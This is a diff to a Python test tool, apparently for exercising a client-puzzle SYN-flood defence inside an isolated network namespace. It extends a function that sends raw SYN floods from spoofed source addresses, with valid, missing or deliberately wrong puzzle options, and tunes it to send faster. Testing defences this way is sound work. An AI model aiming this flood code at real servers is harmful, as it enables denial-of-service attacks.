@@ -7,9 +7,11 @@ Usage (run inside a namespace of :mod:`puzzlenet`):
         last answered SYN of PCAP replayed to SERVER from another source and with each
         byte of its answer option flipped (but the type byte), then, WAIT_S later (past
         its expiry), as it was.
-    puzzleforge.py - CLIENT SERVER flood COUNT SECONDS
+    puzzleforge.py - CLIENT SERVER flood COUNT SECONDS [KIND [SERVER_TS]]
         from the attacker: COUNT SYNs to SERVER:8080 from the spoofed sources
-        10.71.3.100-199, half with a client-info option, half without, within SECONDS.
+        10.71.3.100-199 within SECONDS: KIND ``mixed`` (the default: half with a
+        client-info option, half without), ``info`` (all with) or ``wrong`` (with a
+        wrong answer stamped SERVER_TS, so that the server hashes to refuse it).
 
 Prints one JSON line: what was sent.
 """
@@ -83,36 +85,48 @@ def replay(pcap: str, client: str, server: str, wait_s: float) -> dict[str, int]
     return {"sent": sent, "forged_puzzles": 1}
 
 
-def flood(server: str, count: int, seconds: float) -> dict[str, int]:
+def flood(server: str, count: int, seconds: float, kind: str = "mixed",
+          server_ts: int = 0) -> dict[str, int | float]:
+    """``count`` SYNs to ``server``:8080 from the spoofed sources within ``seconds``:
+    ``mixed`` (half with client info, half without), ``info`` (all with), ``wrong``
+    (client info and an answer stamped ``server_ts`` that is not the puzzle's)."""
     s = raw_socket()
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
     dst = socket.inet_aton(server)
     info = wire.client_info(0x12345678, 1000)
-    templates = []
-    for i in range(100, 200):
-        src = socket.inet_aton(f"10.71.3.{i}")
-        for with_info in (True, False):
-            opts = info if with_info else b""
-            ihl = 5 + len(opts) // 4
-            ip = struct.pack("!BBHHHBBH4s4s", 0x40 | ihl, 0, ihl * 4 + 20, 0, 0, 64, 6, 0,
-                             src, dst) + opts
-            templates.append((bytearray(ip), socket.inet_ntoa(dst)))
+    answer = wire.answer_option(0xDEADBEEF, server_ts, 0, 10, bytes(8))
+    options = {"mixed": (info, b""), "info": (info,), "wrong": (info + answer,)}[kind]
+    packets = []  # prebuilt: the loop only sends
+    for n in range(4096):
+        src = socket.inet_aton(f"10.71.3.{100 + n % 100}")
+        opts = options[n % len(options)]
+        ihl = 5 + len(opts) // 4
+        ip = struct.pack("!BBHHHBBH4s4s", 0x40 | ihl, 0, ihl * 4 + 20, 0, 0, 64, 6, 0,
+                         src, dst) + opts
+        # the kernel fills the IP checksum; the TCP one is left 0 (wrong), which matters
+        # not: nothing of it must reach a stack
+        tcp = struct.pack("!HHIIBBHHH", 1024 + n, 8080, n, 0, 5 << 4, 0x02, 64240, 0, 0)
+        packets.append(ip + tcp)
+    host = socket.inet_ntoa(dst)
+    sendto = s.sendto
     sent, start = 0, time.monotonic()
     deadline = start + seconds
     while sent < count and time.monotonic() < deadline:
-        hdr, host = templates[sent % len(templates)]
-        sport = 1024 + sent % 60000
-        tcp = struct.pack("!HHIIBBHHH", sport, 8080, sent, 0, 5 << 4, 0x02, 64240, 0, 0)
-        pkt = bytes(hdr) + tcp  # the kernel fills the IP checksum; the TCP one is wrong,
-        s.sendto(pkt, (host, 0))  # which matters not: nothing of it must reach a stack
-        sent += 1
+        for pkt in packets[:min(len(packets), count - sent)]:
+            try:
+                sendto(pkt, (host, 0))
+            except BlockingIOError:
+                continue
+            sent += 1
     return {"sent": sent, "seconds": round(time.monotonic() - start, 3)}
 
 
 def main() -> None:
     if sys.argv[1] == "-":
-        _, _, _client, server, mode, count, seconds = sys.argv
+        _, _, _client, server, mode, count, seconds, *rest = sys.argv
         assert mode == "flood"
-        out = flood(server, int(count), float(seconds))
+        kind = rest[0] if rest else "mixed"
+        out = flood(server, int(count), float(seconds), kind, int(rest[1]) if rest[1:] else 0)
     else:
         _, pcap, client, server, wait_s = sys.argv
         out = replay(pcap, client, server, float(wait_s))
